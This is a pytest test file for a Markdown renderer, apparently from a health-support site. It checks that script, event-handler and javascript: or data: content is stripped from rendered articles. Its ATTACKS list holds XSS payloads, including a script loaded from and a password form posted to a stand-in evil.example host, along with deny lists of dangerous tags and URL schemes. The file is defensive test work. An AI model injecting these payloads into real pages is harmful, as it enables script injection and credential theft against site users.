"""Whatever an article's Markdown says, no script, event handler or javascript: link gets
through to a page."""

from html.parser import HTMLParser

import pytest

from aftercare.library.rendering import render_markdown
from aftercare.library.tests.helpers import make_article

ATTACKS = [
    "<script>alert('x')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="/static/x.png" onerror="alert(1)">',
    '<p onclick="alert(1)">tap</p>',
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<svg onload="alert(1)"><circle /></svg>',
    '<form action="https://evil.example"><input name="password"></form>',
    "<!-- <script>alert(1)</script> -->",
    '<div style="background:url(javascript:alert(1))">x</div>',
]


DANGEROUS_TAGS = {"script", "iframe", "style", "form", "input", "svg", "object", "embed"}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


class Elements(HTMLParser):
    """Every element and attribute the browser would see (text such as "alert(1)" is fine)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    def dangers(self) -> list[str]:
        problems = []
        for tag, attrs in self.found:
            if tag in DANGEROUS_TAGS:
                problems.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on") or name == "style":
                    problems.append(f"<{tag} {name}=...>")
                # The browser drops tabs and newlines inside a URL and ignores leading spaces.
                url = "".join((value or "").split()).lower()
                if name in ("href", "src", "action") and url.startswith(DANGEROUS_SCHEMES):
                    problems.append(f"<{tag} {name}={value}>")
        return problems


@pytest.mark.parametrize("attack", ATTACKS)
def test_dangerous_markup_never_reaches_the_html(attack):
    html = render_markdown(f"Some text.\n\n{attack}\n\nMore text.")
    assert Elements(html).dangers() == [], html
    assert "More text." in html


def test_ordinary_markdown_survives():
    html = render_markdown(
        "## Rest\n\n- **Sleep** early\n- Drink *water*\n\n"
        "[Warning signs](/learn/warning-signs/) and [988](tel:988) and "
        "[site](https://example.org/).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    assert "<h2>Rest</h2>" in html
    assert "<li><strong>Sleep</strong> early</li>" in html
    assert '<a href="/learn/warning-signs/" rel="noopener noreferrer">Warning signs</a>' in html
    assert 'href="tel:988"' in html
    assert 'href="https://example.org/"' in html
    assert "<td>2</td>" in html


def test_images_load_only_from_this_site():
    html = render_markdown("![ours](/static/a.png) ![theirs](https://tracker.example/p.gif)")
    assert '<img src="/static/a.png" alt="ours">' in html
    assert "tracker.example" not in html


def test_the_title_heading_is_not_repeated_and_other_h1_become_h2():
    html = render_markdown("# My title\n\nIntro.\n\n# Part two\n\nText.", title="My Title")
    assert "My title" not in html
    assert "<h1>" not in html
    assert "<h2>Part two</h2>" in html


def test_an_article_page_with_a_hostile_body_is_safe(as_user, alice):
    make_article("hostile", body="Hello.\n\n" + "\n\n".join(ATTACKS))
    response = as_user(alice.user).get("/learn/hostile/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "<script" not in page.lower().split("</head>", 1)[1]  # the head has the site's own
    body = page.split('<div class="article-body">', 1)[1].split("</article>", 1)[0]
    assert Elements(body).dangers() == []
